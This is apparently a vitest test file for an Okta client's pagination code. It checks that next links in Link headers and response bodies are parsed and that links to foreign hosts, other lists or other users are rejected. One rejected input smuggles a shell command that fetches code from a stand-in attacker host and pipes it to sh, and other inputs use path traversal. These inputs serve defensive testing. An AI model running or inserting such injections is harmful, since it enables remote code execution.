import { describe, expect, test } from 'vitest';
import { isSamePage, nextInBody, nextLink } from '../../src/okta/links.ts';

const origin = 'https://acme.okta.com';
const first = `${origin}/api/v1/users?limit=2`;
const self = `<${origin}/api/v1/users?limit=2>; rel="self"`;
const next = `<${origin}/api/v1/users?after=100u65xtp32NovHoPx1d7&limit=2>; rel="next"`;

describe('nextLink', () => {
  test('reads a Link header sent as two lines or as one joined line', () => {
    const path = '/api/v1/users?after=100u65xtp32NovHoPx1d7&limit=2';
    expect(nextLink([self, next], first)).toBe(path);
    expect(nextLink(`${self}, ${next}`, first)).toBe(path);
    expect(nextLink(`${next}, ${self}`, first)).toBe(path);
  });

  test('accepts commas, quotes and semicolons inside the URL of a link', () => {
    const url = `${origin}/api/v1/logs?filter=eventType%20eq%20%22a%22,b;c&after=1_1`;
    expect(nextLink(`<${url}>; rel="next"`, `${origin}/api/v1/logs`)).toBe(url.slice(origin.length));
  });

  test('returns no next link on the last page or without a usable Link header', () => {
    expect(nextLink([self], first)).toBeUndefined();
    expect(nextLink(undefined, first)).toBeUndefined();
    expect(nextLink('next, please', first)).toBeUndefined();
  });

  test('throws for an unreadable next link instead of ending the list', () => {
    expect(() => nextLink(`${origin}/api/v1/users?after=x; rel="next"`, first)).toThrow(
      expect.objectContaining({ category: 'unexpected_response' }),
    );
  });

  test('reads the relation of a link in any case', () => {
    expect(nextLink(`<${origin}/api/v1/users?after=x>; REL="NEXT"`, first)).toBe('/api/v1/users?after=x');
  });

  test('resolves a next link relative to its page', () => {
    const page = `${origin}/api/v1/users?limit=2`;
    expect(nextLink('</api/v1/users?after=x>; rel=next', page)).toBe('/api/v1/users?after=x');
    expect(nextLink('<?after=x>; rel="next"', page)).toBe('/api/v1/users?after=x');
  });

  test('ignores a link whose URL merely contains the word next', () => {
    expect(nextLink(`<${origin}/api/v1/users?q=next>; rel="self"`, first)).toBeUndefined();
  });

  test.each([
    'https://evil.example',
    'http://acme.okta.com',
    'https://acme.okta.com:8443',
    'https://acme.okta.com.evil.example',
  ])('rejects a next link to %s', (foreign) => {
    expect(() => nextLink(`<${foreign}/api/v1/users?after=x>; rel="next"`, first)).toThrow(
      expect.objectContaining({ category: 'unexpected_response', field: 'orgUrl' }),
    );
  });

  test('follows a next link to the admin host of the same org on the org URL', () => {
    expect(nextLink('<https://acme-admin.okta.com/api/v1/users?after=x>; rel="next"', first)).toBe(
      '/api/v1/users?after=x',
    );
  });
});

describe('next links to other lists', () => {
  const groups = `${origin}/api/v1/users/grace%40acme.example/groups`;

  test.each([
    '/api/v1/groups?after=x',
    '/api/v1/users/00u1?after=x',
    '/api/v1/users/?after=x',
    "/api/v1/users';curl evil.example|sh;'?after=x",
    '/api/v1/users/../groups?after=x',
    '/?after=x',
  ])('rejects a next link from a list of users to %s', (path) => {
    expect(() => nextLink(`<${origin}${path}>; rel="next"`, first)).toThrow(
      expect.objectContaining({ category: 'unexpected_response' }),
    );
  });

  test('keeps the requested login when the next link names an ID', () => {
    const link = `<${origin}/api/v1/users/00ugrace000000000001/groups?after=x>; rel="next"`;
    expect(nextLink(link, groups)).toBe('/api/v1/users/grace%40acme.example/groups?after=x');
  });

  test.each(['omar%40acme.example', '..', "x'y"])('rejects a next link to another login: %s', (user) => {
    expect(() => nextLink(`<${origin}/api/v1/users/${user}/groups?after=x>; rel="next"`, groups)).toThrow(
      expect.objectContaining({ category: 'unexpected_response' }),
    );
  });

  test('rejects a next link to another ID than the requested one', () => {
    const page = `${origin}/api/v1/users/00ugrace000000000001/groups`;
    expect(() => nextLink(`<${origin}/api/v1/users/00uomar0000000000001/groups?after=x>; rel="next"`, page)).toThrow(
      expect.objectContaining({ category: 'unexpected_response' }),
    );
  });

  test('rejects an oversized Link header', () => {
    expect(() => nextLink(`${next}${' '.repeat(20_000)}`, first)).toThrow('Cannot read');
  });
});

describe('isSamePage', () => {
  test.each([
    ['/api/v1/users?limit=200', '/api/v1/users?limit=200', true],
    ['/api/v1/users?filter=a%20eq%20%22b%22&limit=2', '/api/v1/users?limit=2&filter=a+eq+%22b%22', true],
    ['/api/v1/users?limit=2', '/api/v1/users?after=x&limit=2', false],
    ['/api/v1/users?limit=2', '/api/v1/groups?limit=2', false],
  ])('compares the pages %s and %s: the same page is %s', (one, other, same) => {
    expect(isSamePage(one, other)).toBe(same);
  });
});

describe('nextInBody', () => {
  const page = `${origin}/api/v1/iam/roles?limit=2`;
  const body = (href: unknown) => ({ roles: [], _links: { next: { href } } });

  test('reads the next page of a list that holds it in the body', () => {
    expect(nextInBody(body(`${origin}/api/v1/iam/roles?after=x`), page)).toBe('/api/v1/iam/roles?after=x');
    expect(nextInBody(body('/api/v1/iam/roles?after=x'), page)).toBe('/api/v1/iam/roles?after=x');
  });

  test('returns no next page in the body without links or with a null link', () => {
    expect(nextInBody({ roles: [] }, page)).toBeUndefined();
    expect(nextInBody({ roles: [], _links: { next: null } }, page)).toBeUndefined();
    expect(nextInBody([], page)).toBeUndefined();
  });

  test.each(['https://evil.example/api/v1/iam/roles?after=x', '/api/v1/users?after=x', 7, ''])(
    'rejects the next page %j in the body',
    (href) => {
      expect(() => nextInBody(body(href), page)).toThrow(expect.objectContaining({ category: 'unexpected_response' }));
    },
  );
});
